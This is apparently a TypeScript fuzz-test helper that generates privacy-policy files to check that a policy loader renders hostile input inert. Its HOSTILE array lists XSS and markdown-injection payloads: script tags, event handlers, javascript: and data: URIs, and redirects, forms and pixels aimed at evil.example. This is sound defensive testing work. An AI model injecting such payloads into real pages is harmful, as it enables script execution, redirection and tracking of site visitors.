/**
 * The building blocks of the loader fuzz's generated policy files (tests/fuzz/policyInputs.ts):
 * the corpus's archive header, sentences in its register, hostile payloads, odd characters, and
 * valid policies, plain or reviewed. Pure functions of a seeded random generator.
 */
import type { Random } from './random.ts';

/** What the loader must do with a case. */
export type Expectation = 'parse' | 'error' | 'either';

export interface PolicyCase {
  /** Family and number, e.g. `html-injection#12`. */
  name: string;
  /** The whole file text, as the loader would read it. */
  text: string;
  /** `parse`: must parse; `error`: must throw a ContentError; `either`: one of the two. */
  expect: Expectation;
  /** For `error`: the message must match. */
  message?: RegExp;
}

export const MB = 1024 * 1024;

/** The corpus's one-line archive header, valid by default. */
export function archiveHeader(domain = 'fuzz.example', date = '2009-06-21', path = 'privacy'): string {
  return (
    `> *The following text is extracted and transformed from the ${domain} privacy policy that was archived on ${date}. ` +
    `Please check the [original snapshot on the Wayback Machine](https://web.archive.org/web/20090621040548id_/http%3A//www.${domain}/${path}) ` +
    'for the most accurate reproduction.*'
  );
}

/** Sentences in the register of the corpus, with the cues practice detection looks for. */
const SENTENCES = [
  'We collect personal information such as your name, e-mail address and postal address.',
  'We use cookies to recognise you when you return to our site.',
  'We do not sell, rent or loan personal information to third parties.',
  'Our servers record your IP address, browser type and the pages you visit.',
  'You may opt out of receiving our newsletter at any time by clicking unsubscribe.',
  'We may disclose information when required by law or to comply with a subpoena.',
  'We take reasonable steps to protect your data with encryption and firewalls.',
  'This site is not directed at children under the age of 13.',
  'We may update this policy from time to time and will post the changes on this page.',
  'Contact privacy@fuzz.example or call (555) 123-4567 with any questions.',
  'Credit card details are processed by our payment provider.',
  'Information you post in public forums may be read by anyone.',
  'Your data may be transferred to and stored in other countries.',
  'You can review and correct your personal information by contacting us.',
];

/** Payloads that must come out inert: shown as text, never executed or fetched. */
export const HOSTILE = [
  '<script>window.__fuzzPwned = 1</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror="window.__fuzzPwned=1">',
  '<svg onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  '<div style="background:url(javascript:alert(1))" onclick="alert(1)">x</div>',
  '<style>body{display:none}</style>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<!-- <script>alert(1)</script> -->',
  '<form action="https://evil.example"><input name=q></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<details open ontoggle=alert(1)>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click]( javascript:alert(1) )',
  '[click](java\tscript:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](vbscript:msgbox(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![tracker](https://evil.example/pixel.gif)',
  '[ref link][evil]\n\n[evil]: javascript:alert(1)',
  '[x](https://example.com "title onmouseover=alert(1)")',
  '[x](https://example.com/"onmouseover="alert(1))',
  '`<script>alert(1)</script>`',
  '**<img src=x onerror=alert(1)>**',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '[x](#" onclick="alert(1))',
  'text[^1]\n\n[^1]: a footnote with <script>alert(1)</script>',
];

const WORDS = ['privacy', 'data', 'cookie', 'third', 'party', 'information', 'we', 'you', 'may', 'not', 'site', 'use'];
export const ODD_CHARS = [
  '\u00a0',
  'Â©',
  'Â®',
  '\u200b',
  '\u202e',
  '\ufeff',
  '\u2028',
  'é',
  '漢字',
  '🙂',
  '\u0301',
  '\t',
  '|',
  '\\',
  '&',
  '"',
  "'",
  '\r',
];

/** One sentence of the corpus's register. */
export function sentence(rng: Random): string {
  return rng.pick(SENTENCES);
}

/** A paragraph of a few such sentences. */
export function paragraph(rng: Random, sentences = rng.between(1, 4)): string {
  return Array.from({ length: sentences }, () => sentence(rng)).join(' ');
}

/** A valid policy body of about `paragraphs` paragraphs, with headings and a list. */
export function plainBody(rng: Random, paragraphs = 6): string {
  const out: string[] = ['# Privacy Policy'];
  for (let i = 0; i < paragraphs; i++) {
    if (i % 3 === 0)
      out.push(
        rng.chance(0.5)
          ? `## ${rng.pick(['Cookies', 'Your choices', 'Security', 'Contact us'])}`
          : `**${rng.pick(['Information we collect', 'Sharing', 'Children'])}**`,
      );
    out.push(rng.chance(0.2) ? `- ${sentence(rng)}\n- ${sentence(rng)}` : paragraph(rng));
  }
  return out.join('\n\n');
}

/** A whole valid policy file: the archive header and a plain body. */
export function validPolicy(rng: Random, paragraphs = 6): string {
  return `${archiveHeader()}\n\n${plainBody(rng, paragraphs)}\n`;
}

/** `count` words of the policies' vocabulary, with an odd character now and then. */
export function words(rng: Random, count: number): string {
  return Array.from({ length: count }, () => (rng.chance(0.1) ? rng.pick(ODD_CHARS) : rng.pick(WORDS))).join(' ');
}

/** `length` pieces of noise: odd characters, printable ASCII, other BMP characters, words. */
export function noise(rng: Random, length: number): string {
  let s = '';
  for (let i = 0; i < length; i++) {
    const k = rng.int(4);
    s +=
      k === 0
        ? rng.pick(ODD_CHARS)
        : k === 1
          ? String.fromCharCode(rng.between(0x20, 0x7e))
          : k === 2
            ? String.fromCharCode(rng.between(0xa0, 0x2fff))
            : rng.pick(WORDS) + ' ';
  }
  return s;
}

/** A list nested `depth` levels deep, one item per level, with mixed markers. */
export function list(rng: Random, depth: number): string {
  const lines: string[] = [];
  for (let level = 0; level < depth; level++) {
    const marker = rng.pick(['-', '*', '+', '1.', '2)', '- [ ]', '- [x]']);
    lines.push(`${'  '.repeat(level * (marker.length > 1 ? 2 : 1))}${marker} ${rng.chance(0.1) ? '' : sentence(rng)}`);
  }
  return lines.join('\n');
}

/** A policy with a complete, valid review: every practice not mentioned, one quoted. */
export function reviewedPolicy(rng: Random, practiceIds: readonly string[]): string {
  const quoted = rng.pick(practiceIds);
  const entries = practiceIds.map((id) =>
    id === quoted
      ? `    ${id}:\n      stance: yes\n      summary: They say so.\n      quotes:\n        - "We use cookies to recognise you"`
      : `    ${id}:\n      stance: not-mentioned\n      summary: The policy does not say.`,
  );
  return `---\nname: Fuzz Corp\nreview:\n  reviewedOn: 2024-01-01\n  practices:\n${entries.join('\n')}\n---\n${archiveHeader()}\n\nWe use cookies to recognise you when you return.\n\n${plainBody(rng)}\n`;
}
